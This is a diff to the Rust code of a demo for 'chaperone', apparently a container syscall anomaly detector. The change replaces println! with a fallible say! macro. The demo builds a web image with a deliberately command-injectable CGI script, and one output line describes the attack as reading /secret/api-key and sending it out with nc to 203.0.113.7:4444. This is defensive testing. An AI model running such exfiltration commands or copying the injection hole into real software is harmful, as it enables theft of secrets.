@@ -14,6 +14,7 @@ use chaperone_profiler::store::{Store, Summary};
 use serde_json::Value;
 
 use crate::containerd::{wait_for, Containerd, CHAPERONE};
+use crate::say;
 
 /// The demo image.
 pub const IMAGE: &str = "chaperone.demo/web:1";
@@ -138,8 +139,8 @@ impl Outcome {
     }
 }
 
-fn step(text: &str) {
-    println!("\n==> {text}");
+fn step(text: &str) -> Result<()> {
+    say!("\n==> {text}")
 }
 
 /// One HTTP/1.0 GET; `Err` when the connection fails or is cut.
@@ -182,7 +183,7 @@ const PIECE_GAP: Duration = Duration::from_millis(20);
 /// Configures chaperone for the demo and builds the web image.
 pub fn prepare(ctrd: &Containerd) -> Result<()> {
     ctrd.set_chaperone_config(CONFIG)?;
-    step(&format!("building the web image {IMAGE} (busybox httpd + a CGI script with a command-injection bug)"));
+    step(&format!("building the web image {IMAGE} (busybox httpd + a CGI script with a command-injection bug)"))?;
     ctrd.import_image(
         IMAGE,
         &[
@@ -431,7 +432,7 @@ fn variations(
     step(&format!(
         "{title}: {} run(s) of each, each a fresh container, enforce with action alert (the server keeps running)",
         opts.variation_runs
-    ));
+    ))?;
     let mut outcomes = Vec::new();
     for variant in variants {
         let mut outcome = VariantOutcome {
@@ -447,13 +448,13 @@ fn variations(
                 alerts,
             } = serve_once(ctrd, &id, opts.port, &extra, variant.send)?;
             if let Err(e) = &sent {
-                println!("      run {run}: {e:#}");
+                say!("      run {run}: {e:#}")?;
             }
             if let Some(first) = alerts.first() {
-                println!(
+                say!(
                     "      run {run}: {}",
                     first["output"].as_str().unwrap_or_default()
-                );
+                )?;
             }
             outcome.runs += 1;
             outcome.alerted += usize::from(!alerts.is_empty());
@@ -477,10 +478,14 @@ fn variations(
         } else {
             String::new()
         };
-        println!(
+        say!(
             "    {:<16} {} of {} run(s) alerted, {} alert(s){at}{broken}: {}",
-            outcome.name, outcome.alerted, outcome.runs, outcome.alerts, variant.what
-        );
+            outcome.name,
+            outcome.alerted,
+            outcome.runs,
+            outcome.alerts,
+            variant.what
+        )?;
         outcomes.push(outcome);
     }
     Ok(outcomes)
@@ -520,7 +525,7 @@ fn serve_once(
 /// Learns the web server, one container per run, until the policy promotes its profile;
 /// returns the runs and the events learned.
 pub fn learn(ctrd: &Containerd, opts: &Options) -> Result<(usize, u64)> {
-    step("learning: each run starts the server under chaperone, sends benign traffic, stops it");
+    step("learning: each run starts the server under chaperone, sends benign traffic, stops it")?;
     let policy = chaperone_config::Config::parse(CONFIG)?
         .promotion
         .context("the demo's config has a promotion policy")?;
@@ -532,7 +537,7 @@ pub fn learn(ctrd: &Containerd, opts: &Options) -> Result<(usize, u64)> {
         let s = summary(ctrd)?;
         // The figure the promotion policy compares.
         let rate = Store::open(&ctrd.db_path())?.new_rate(PROFILE, policy.window_events)?;
-        println!(
+        say!(
             "    run {run:>2}: {:>6} events, {:>4} n-grams, {:>6} new n-grams per 10k events in the newest {} (promoted below {}), mode {}",
             s.events,
             s.grams,
@@ -540,21 +545,21 @@ pub fn learn(ctrd: &Containerd, opts: &Options) -> Result<(usize, u64)> {
             policy.window_events,
             policy.max_new_per_10k,
             s.mode.map_or("learn", |m| m.as_str()),
-        );
+        )?;
         if s.mode == Some(chaperone_config::Mode::Enforce) {
-            println!(
+            say!(
                 "    converged: the promotion policy switched profile {PROFILE} to enforce (action: kill)"
-            );
+            )?;
             return Ok((run, s.events));
         }
     }
     let s = summary(ctrd)?;
     let kept = std::env::temp_dir().join(format!("chaperone-demo-{}.db", std::process::id()));
     if std::fs::copy(ctrd.db_path(), &kept).is_ok() {
-        println!(
+        say!(
             "    the profile store is kept for inspection: {}",
             kept.display()
-        );
+        )?;
     }
     bail!(
         "the profile did not converge in {} runs: {s:?}",
@@ -575,7 +580,7 @@ pub fn run(ctrd: &Containerd, opts: &Options) -> Result<Outcome> {
     step(&format!(
         "enforce: {} benign run(s), each a fresh container with the same traffic",
         opts.benign_runs
-    ));
+    ))?;
     for run in 1..=opts.benign_runs {
         let id = format!("web-benign-{run}");
         // Every request is sent, whether or not one before it was answered.
@@ -592,14 +597,14 @@ pub fn run(ctrd: &Containerd, opts: &Options) -> Result<Outcome> {
             alerts,
         } = serve_once(ctrd, &id, opts.port, &[], every)?;
         let silent = sent.is_ok() && running && alerts.is_empty();
-        println!(
+        say!(
             "    benign run {run:>2}: {} requests, {} alerts, server {}",
             BENIGN.len(),
             alerts.len(),
             if running { "running" } else { "STOPPED" }
-        );
+        )?;
         for a in &alerts {
-            println!("      alert: {}", a["output"].as_str().unwrap_or_default());
+            say!("      alert: {}", a["output"].as_str().unwrap_or_default())?;
         }
         outcome.benign_silent.1 += 1;
         outcome.benign_silent.0 += usize::from(silent);
@@ -620,10 +625,8 @@ pub fn run(ctrd: &Containerd, opts: &Options) -> Result<Outcome> {
         )?;
     }
 
-    step(&format!("attack: GET {ATTACK}"));
-    println!(
-        "    (the CGI evals it: a shell runs cat /secret/api-key, then nc to 203.0.113.7:4444)"
-    );
+    step(&format!("attack: GET {ATTACK}"))?;
+    say!("    (the CGI evals it: a shell runs cat /secret/api-key, then nc to 203.0.113.7:4444)")?;
     for run in 1..=opts.attack_runs {
         let id = format!("web-attack-{run}");
         let server = Server::start(ctrd, &id, opts.port, &[])?;
@@ -637,13 +640,13 @@ pub fn run(ctrd: &Containerd, opts: &Options) -> Result<Outcome> {
         )
         .is_ok();
         let alerts = alerts_of(ctrd, &id)?;
-        println!(
+        say!(
             "    attack run {run:>2}: container {} after {:.0?}, secret {}, {} alert(s)",
             if stopped { "killed" } else { "STILL RUNNING" },
             started.elapsed(),
             if leaked { "LEAKED" } else { "not returned" },
             alerts.len()
-        );
+        )?;
         if outcome.alert.is_none() {
             outcome.alert = alerts.first().cloned();
         }
@@ -652,31 +655,32 @@ pub fn run(ctrd: &Containerd, opts: &Options) -> Result<Outcome> {
         outcome.attacks_stopped.0 += usize::from(stopped && !leaked && !alerts.is_empty());
     }
     if let Some(alert) = &outcome.alert {
-        step("the alert (Falco format, also in the alert log)");
-        print_alert(alert);
+        step("the alert (Falco format, also in the alert log)")?;
+        print_alert(alert)?;
     }
     Ok(outcome)
 }
 
-fn print_alert(alert: &Value) {
+fn print_alert(alert: &Value) -> Result<()> {
     let f = &alert["output_fields"];
-    println!("    {}", alert["output"].as_str().unwrap_or_default());
-    println!(
+    say!("    {}", alert["output"].as_str().unwrap_or_default())?;
+    say!(
         "    priority: {}   rule: {}",
-        alert["priority"], alert["rule"]
-    );
+        alert["priority"],
+        alert["rule"]
+    )?;
     let window: Vec<&str> = f["chaperone.window"]
         .as_array()
         .map(|w| w.iter().filter_map(Value::as_str).collect())
         .unwrap_or_default();
     let tail = window.len().saturating_sub(12);
-    println!(
+    say!(
         "    last syscalls of the thread: ... {}",
         window[tail..].join(" ")
-    );
-    println!("    why (least likely transitions under the learned profile):");
+    )?;
+    say!("    why (least likely transitions under the learned profile):")?;
     for t in f["chaperone.explanation"].as_array().into_iter().flatten() {
-        println!(
+        say!(
             "      {:>14} -> {:<14} p = {:.2e}{}",
             t["from"].as_str().unwrap_or("(start)"),
             t["to"].as_str().unwrap_or("?"),
@@ -686,8 +690,9 @@ fn print_alert(alert: &Value) {
             } else {
                 ""
             }
-        );
+        )?;
     }
+    Ok(())
 }
 
 fn summary(ctrd: &Containerd) -> Result<Summary> {
